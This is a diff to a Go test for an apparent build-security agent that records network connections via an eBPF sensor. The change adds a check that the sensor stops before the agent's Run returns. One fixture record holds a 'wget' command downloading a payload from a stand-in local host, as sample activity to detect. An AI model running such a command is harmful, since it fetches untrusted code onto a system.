@@ -18,8 +18,12 @@ import (
 )
 
 // fixedConns is a connection sensor that reports the connections it is
-// given, then waits.
-type fixedConns struct{ conns []conns.Conn }
+// given, then waits; stopped, when set, is closed once Run has returned,
+// a while after ctx ended (as the eBPF sensor drains its ring).
+type fixedConns struct {
+	conns   []conns.Conn
+	stopped chan struct{}
+}
 
 func (f fixedConns) Sensor() string { return "ebpf" }
 
@@ -33,6 +37,10 @@ func (f fixedConns) Run(ctx context.Context, emit func(conns.Conn)) error {
 		emit(c)
 	}
 	<-ctx.Done()
+	if f.stopped != nil {
+		time.Sleep(50 * time.Millisecond)
+		close(f.stopped)
+	}
 	return nil
 }
 
@@ -47,7 +55,7 @@ func TestAgentReportsBuildWithItsConnection(t *testing.T) {
 	sensor := fixedConns{conns: []conns.Conn{
 		{Time: t0.Add(65 * time.Millisecond), PID: 4243, PPID: 4242, Comm: "wget", Cmdline: "wget -O /payload http://127.0.0.23:8080/payload", ContainerID: hexID('2'), CgroupID: 99, Dst: dst},
 		{Time: t0.Add(66 * time.Millisecond), PID: 77, Comm: "curl", Dst: netip.MustParseAddrPort("203.0.113.1:443")},
-	}}
+	}, stopped: make(chan struct{})}
 	m := NewMetrics()
 	spool, err := OpenSpool(filepath.Join(t.TempDir(), "buffer"), 0, m.BufferDropped)
 	if err != nil {
@@ -88,6 +96,11 @@ buildguard_node_agent_sensor_dropped_total 7
 	cancel()
 	if err := <-done; err != nil {
 		t.Fatal(err)
+	}
+	select {
+	case <-sensor.stopped:
+	default:
+		t.Error("Run returned before the sensor stopped")
 	}
 	_, data, ok, err := spool.Oldest()
 	if err != nil || !ok {
